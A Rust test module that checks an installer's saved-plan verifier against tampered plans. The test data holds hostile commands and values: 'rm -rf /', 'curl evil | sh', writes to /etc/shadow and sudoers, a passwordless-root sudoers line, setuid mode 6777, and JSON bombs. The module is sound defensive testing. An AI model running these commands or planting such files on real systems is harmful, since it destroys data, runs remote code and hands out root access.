//! Hostile saved plans, through the entry point `install --plan FILE` uses
//! (`blankroot::plan::saved::verify` with the example machine's facts): a genuine plan of the
//! example machine, mutated one way each — argv injected or changed, checks, undo and resume
//! commands added, files aimed at /etc/shadow or out of /mnt with mode 6777, steps reordered,
//! removed, duplicated or emptied, another disk, bad ids, other versions and schemas, truncated,
//! huge and deeply nested JSON. Every one is refused (exit 2) naming what differs; genuine
//! plans (any config, any ids) are accepted.

use super::harness::{Case, Expect, refused};
use blankroot::config::{Overrides, parse_str};
use blankroot::plan::{self, Identities};
use serde_json::{Value, json};

/// A genuine plan of the example machine for `toml`, with `ids` (random when `None`).
fn genuine(toml: &str, ids: Option<Identities>) -> Value {
    let config = parse_str("blankroot.toml", toml, &Overrides::default()).unwrap();
    let facts = blankroot::example::facts().unwrap();
    let target = plan::target::from_facts(&facts, &config.disk).unwrap();
    let ids = ids.unwrap_or_else(|| Identities::random(config.host_id.as_deref()).unwrap());
    serde_json::from_str(&plan::build(&config, &target, &ids).unwrap().to_json()).unwrap()
}

fn verify(text: &str) -> Result<(), blankroot::error::Error> {
    let facts = blankroot::example::facts()?;
    plan::saved::verify(text, &facts).map(|_| ())
}

fn case_text(name: &str, text: String, expect: Expect) -> Case {
    Case::lib(format!("plan/{name}"), move || verify(&text), expect)
}

/// The genuine default plan changed by `f`, refused naming one of `any_of`.
fn mutated(name: &str, f: impl Fn(&mut Value), any_of: &[&str]) -> Case {
    let mut v = genuine("", None);
    f(&mut v);
    case_text(name, serde_json::to_string_pretty(&v).unwrap(), refused(any_of))
}

/// The step with this id.
fn step<'v>(v: &'v mut Value, id: &str) -> &'v mut Value {
    v["steps"].as_array_mut().unwrap().iter_mut().find(|s| s["id"] == id).unwrap()
}

fn steps(v: &mut Value) -> &mut Vec<Value> {
    v["steps"].as_array_mut().unwrap()
}

fn argv_cases() -> Vec<Case> {
    vec![
        mutated(
            "argv-sh-c",
            |v| step(v, "partition")["commands"][0]["argv"] = json!(["sh", "-c", "rm -rf /"]),
            &["partition", "argv"],
        ),
        mutated(
            "argv-program-swapped",
            |v| step(v, "luks-open")["commands"][0]["argv"][0] = json!("/tmp/cryptsetup"),
            &["luks-open"],
        ),
        mutated(
            "argv-extra-arg",
            |v| step(v, "pool-create")["commands"][0]["argv"].as_array_mut().unwrap().push(json!("/dev/sdb")),
            &["pool-create"],
        ),
        mutated("argv-empty", |v| step(v, "partition")["commands"][0]["argv"] = json!([]), &["partition"]),
        mutated(
            "argv-empty-every-step",
            |v| {
                steps(v)
                    .iter_mut()
                    .for_each(|s| s["commands"].as_array_mut().unwrap().iter_mut().for_each(|c| c["argv"] = json!([])))
            },
            &["partition"],
        ),
        mutated("argv-not-strings", |v| step(v, "partition")["commands"][0]["argv"] = json!([1, 2]), &["plan"]),
        mutated("argv-nul", |v| step(v, "hostid")["commands"][0]["argv"][0] = json!("zgenhostid\u{0}x"), &["hostid"]),
        mutated(
            "sfdisk-other-disk",
            |v| {
                let a = step(v, "partition")["commands"][0]["argv"].as_array_mut().unwrap();
                *a.last_mut().unwrap() = json!("/dev/sdb");
            },
            &["partition", "/dev/sdb"],
        ),
        mutated(
            "sfdisk-script-changed",
            |v| step(v, "partition")["commands"][0]["stdin"] = json!({"text": "label: dos\n,,83\n"}),
            &["partition", "stdin"],
        ),
        mutated(
            "stdin-secret-renamed",
            |v| step(v, "luks-format")["commands"][0]["stdin"] = json!({"secret": "password:admin"}),
            &["luks-format"],
        ),
        mutated(
            "stdin-secret-to-text",
            |v| step(v, "luks-format")["commands"][0]["stdin"] = json!({"text": "hunter2"}),
            &["luks-format"],
        ),
        mutated(
            "command-injected",
            |v| step(v, "hostid")["commands"].as_array_mut().unwrap().push(json!({"argv": ["sh", "-c", "id"]})),
            &["hostid"],
        ),
        mutated(
            "command-duplicated",
            |v| {
                let c = step(v, "partition")["commands"][0].clone();
                step(v, "partition")["commands"].as_array_mut().unwrap().push(c);
            },
            &["partition"],
        ),
        mutated(
            "luks-format-option-device",
            |v| {
                let a = step(v, "luks-format")["commands"][0]["argv"].as_array_mut().unwrap();
                a.insert(4, json!("/dev/sdb"));
            },
            &["luks-format"],
        ),
    ]
}

fn check_undo_cases() -> Vec<Case> {
    let sh = json!({"argv": ["sh", "-c", "curl evil | sh"], "expect": "success"});
    let (a, b, c) = (sh.clone(), sh.clone(), json!({"argv": ["sh", "-c", "id"]}));
    let d = c.clone();
    vec![
        mutated(
            "check-injected",
            move |v| step(v, "luks-format")["check"].as_array_mut().unwrap().push(a.clone()),
            &["luks-format", "check"],
        ),
        mutated("check-replaced", move |v| step(v, "partition")["check"] = json!([b.clone()]), &["partition", "check"]),
        mutated(
            "check-expect-flipped",
            |v| step(v, "partition")["check"][0]["expect"] = json!("failure"),
            &["partition"],
        ),
        mutated("check-verify-dropped", |v| step(v, "partition")["check"][0]["verify"] = json!(false), &["partition"]),
        mutated("check-emptied", |v| step(v, "luks-format")["check"] = json!([]), &["luks-format"]),
        mutated(
            "revert-injected",
            move |v| step(v, "luks-open")["revert"].as_array_mut().unwrap().push(c.clone()),
            &["luks-open", "revert"],
        ),
        mutated("resume-injected", move |v| step(v, "mount:/")["resume"] = json!([d.clone()]), &["mount:/", "resume"]),
        mutated("starts-over-moved", |v| step(v, "nixos-install")["starts_over"] = json!(true), &["nixos-install"]),
        mutated(
            "destructive-hidden",
            |v| step(v, "partition")["destructive"] = json!(false),
            &["partition", "destructive"],
        ),
        mutated("phase-changed", |v| step(v, "luks-format")["phase"] = json!("finish"), &["luks-format", "phase"]),
        mutated("title-changed", |v| step(v, "partition")["title"] = json!("Harmless"), &["partition", "title"]),
        mutated("id-changed", |v| step(v, "partition")["id"] = json!("partition2"), &["partition"]),
        mutated("id-escape", |v| step(v, "hostid")["id"] = json!("\u{1b}[2Jhostid"), &["hostid"]),
    ]
}

/// write-config's first file.
fn file(v: &mut Value) -> &mut Value {
    &mut step(v, "write-config")["files"][0]
}

fn file_cases() -> Vec<Case> {
    vec![
        mutated(
            "file-to-etc-shadow",
            move |v| file(v)["path"] = json!("/etc/shadow"),
            &["write-config", "/etc/shadow"],
        ),
        mutated(
            "file-dotdot-sudoers",
            move |v| file(v)["path"] = json!("/mnt/../etc/sudoers"),
            &["write-config", "sudoers"],
        ),
        mutated("file-mode-6777", move |v| file(v)["mode"] = json!("6777"), &["write-config", "6777"]),
        mutated("file-mode-garbage", move |v| file(v)["mode"] = json!("rwxrwxrwx"), &["write-config", "mode"]),
        mutated("file-owner-changed", move |v| file(v)["owner"] = json!("nobody"), &["write-config", "owner"]),
        mutated(
            "file-content-appended",
            move |v| {
                let t = file(v)["content"]["text"].as_str().unwrap().to_string();
                file(v)["content"]["text"] = json!(format!("{t}\n# imports = [ /tmp/evil.nix ];"));
            },
            &["write-config", "content"],
        ),
        mutated(
            "file-added",
            |v| {
                step(v, "persist-state")["files"].as_array_mut().unwrap().push(
                    json!({"path": "/mnt/etc/sudoers.d/x", "mode": "0440", "owner": "root", "group": "root", "content": {"text": "ALL ALL=(ALL) NOPASSWD: ALL\n"}}),
                );
            },
            &["persist-state"],
        ),
        mutated(
            "file-hash-secret-renamed",
            |v| step(v, "password-hashes")["files"][0]["content"] = json!({"hash": "luks-passphrase"}),
            &["password-hashes"],
        ),
    ]
}

fn order_cases() -> Vec<Case> {
    vec![
        mutated("steps-reversed", |v| steps(v).reverse(), &["step 1"]),
        mutated("steps-swapped", |v| steps(v).swap(2, 3), &["step 3"]),
        mutated(
            "step-removed",
            |v| {
                steps(v).remove(2);
            },
            &["luks-format"],
        ),
        mutated(
            "step-removed-last",
            |v| {
                steps(v).pop();
            },
            &["forget-resume"],
        ),
        mutated(
            "step-duplicated",
            |v| {
                let s = steps(v)[0].clone();
                steps(v).insert(1, s);
            },
            &["partition", "step 2"],
        ),
        mutated(
            "step-appended",
            |v| {
                let s = steps(v)[0].clone();
                steps(v).push(s);
            },
            &["partition"],
        ),
        mutated("steps-empty", |v| v["steps"] = json!([]), &["steps", "missing"]),
        mutated("steps-null", |v| v["steps"] = Value::Null, &["plan"]),
    ]
}

fn target_id_cases() -> Vec<Case> {
    vec![
        mutated("target-disk-path", |v| v["target"]["disk"]["path"] = json!("/dev/sdb"), &["/dev/sdb", "disk"]),
        mutated("target-device", |v| v["target"]["disk"]["device"] = json!("/dev/sdb"), &["/dev/sdb"]),
        mutated("target-size", |v| v["target"]["disk"]["size_bytes"] = json!(1u64 << 40), &["bytes"]),
        mutated("target-size-negative", |v| v["target"]["disk"]["size_bytes"] = json!(-1), &["plan"]),
        mutated("target-size-float", |v| v["target"]["disk"]["size_bytes"] = json!(1e30), &["plan"]),
        mutated("target-serial", |v| v["target"]["disk"]["serial"] = json!("other"), &["serial"]),
        mutated(
            "config-disk-and-steps",
            |v| {
                v["config"]["disk"] = json!("/dev/sdb");
                v["target"]["disk"]["path"] = json!("/dev/sdb");
            },
            &["/dev/sdb"],
        ),
        mutated(
            "config-format-options-device",
            |v| v["config"]["luks"]["format_options"] = json!(["/dev/sdb"]),
            &["/dev/sdb", "format_options"],
        ),
        mutated("config-hostname", |v| v["config"]["hostname"] = json!("other"), &["hostname", "write-config"]),
        mutated(
            "config-mountpoint-etc",
            |v| v["config"]["pool"]["fs_options"] = json!([["mountpoint", "/etc"], ["canmount", "on"]]),
            &["mountpoint", "fs_options"],
        ),
        mutated("config-host-id-mismatch", |v| v["config"]["host_id"] = json!("deadbeef"), &["host_id"]),
        mutated("ids-host-id-bad", |v| v["ids"]["host_id"] = json!("xyz"), &["host_id"]),
        mutated("ids-luks-uuid-bad", |v| v["ids"]["luks_uuid"] = json!("not-a-uuid"), &["luks_uuid"]),
        mutated("ids-disk-guid-empty", |v| v["ids"]["disk_guid"] = json!(""), &["disk_guid"]),
        mutated("ids-machine-id-short", |v| v["ids"]["machine_id"] = json!("abc"), &["machine_id"]),
        mutated(
            "ids-luks-uuid-changed",
            |v| v["ids"]["luks_uuid"] = json!("00000000-0000-4000-8000-000000000000"),
            &["luks"],
        ),
        mutated("secrets-dropped", |v| v["secrets"] = json!([]), &["secrets"]),
        mutated("secret-renamed", |v| v["secrets"][0]["name"] = json!("nothing"), &["secrets"]),
        mutated("unknown-field", |v| v["run_first"] = json!(["sh"]), &["run_first", "schema"]),
        mutated("unknown-step-field", |v| step(v, "partition")["pre"] = json!(["sh"]), &["pre", "schema"]),
    ]
}

fn version_cases() -> Vec<Case> {
    vec![
        mutated("schema-2", |v| v["schema"] = json!(2), &["schema"]),
        mutated("schema-0", |v| v["schema"] = json!(0), &["schema"]),
        mutated("schema-string", |v| v["schema"] = json!("1"), &["schema"]),
        mutated(
            "schema-absent",
            |v| {
                v.as_object_mut().unwrap().remove("schema");
            },
            &["schema"],
        ),
        mutated("schema-huge", |v| v["schema"] = json!(u64::MAX), &["schema"]),
        mutated("version-older", |v| v["blankroot_version"] = json!("0.0.1"), &["0.0.1"]),
        mutated("version-newer", |v| v["blankroot_version"] = json!("99.0.0"), &["99.0.0"]),
        mutated("version-escape", |v| v["blankroot_version"] = json!("\u{1b}[2J"), &["blankroot"]),
        mutated("version-huge", |v| v["blankroot_version"] = json!("9".repeat(100_000)), &["blankroot"]),
    ]
}

fn text_cases() -> Vec<Case> {
    let full = serde_json::to_string_pretty(&genuine("", None)).unwrap();
    let half = full.get(..full.len() / 2).unwrap_or_default().to_string();
    let mut title_huge = genuine("", None);
    title_huge["steps"][0]["title"] = json!("x".repeat(8 << 20));
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_in_step =
        full.replacen("\"files\": []", &format!("\"files\": {}{}", "[".repeat(5000), "]".repeat(5000)), 1);
    let bomb = format!("{{\"schema\": 1, \"x\": \"{}\"}}", "a".repeat(20 << 20));
    vec![
        case_text("truncated", half, refused(&["JSON"])),
        case_text("empty", String::new(), refused(&["JSON"])),
        case_text("null", "null".into(), refused(&["schema", "plan"])),
        case_text("array", "[]".into(), refused(&["schema", "plan"])),
        case_text("not-json", "steps:\n  - sh -c id\n".into(), refused(&["JSON"])),
        case_text("title-8-mib", serde_json::to_string(&title_huge).unwrap(), refused(&["partition", "title"])),
        case_text("over-16-mib", bomb, refused(&["MiB", "larger"])),
        case_text("deep-nesting", deep, refused(&["JSON", "plan"])),
        case_text("deep-nesting-in-step", deep_in_step, refused(&["JSON", "plan"])),
        case_text("trailing-garbage", format!("{full}\n{{\"schema\": 1}}"), refused(&["JSON"])),
        case_text(
            "duplicate-steps-key",
            full.replacen("\"steps\": [", "\"steps\": [], \"steps\": [", 1),
            refused(&["steps", "duplicate", "JSON", "plan"]),
        ),
        case_text(
            "nul-byte",
            full.replacen("\"partition\"", "\"parti\\u0000tion\"", 1),
            refused(&["partition", "parti"]),
        ),
    ]
}

fn controls() -> Vec<Case> {
    let ok = || Expect::Accepted { stdout_has: vec![], changes: false };
    vec![
        case_text("control/genuine", serde_json::to_string_pretty(&genuine("", None)).unwrap(), ok()),
        case_text(
            "control/genuine-fixed-ids",
            serde_json::to_string(&genuine("", Some(Identities::fixed(7, None)))).unwrap(),
            ok(),
        ),
        case_text(
            "control/genuine-other-config",
            serde_json::to_string_pretty(&genuine(
                "hostname = \"web\"\ninitrd = \"scripted\"\n[pool]\nname = \"tank\"\n",
                None,
            ))
            .unwrap(),
            ok(),
        ),
    ]
}

pub fn cases() -> Vec<Case> {
    let mut v = argv_cases();
    v.extend(check_undo_cases());
    v.extend(file_cases());
    v.extend(order_cases());
    v.extend(target_id_cases());
    v.extend(version_cases());
    v.extend(text_cases());
    v.extend(controls());
    v
}
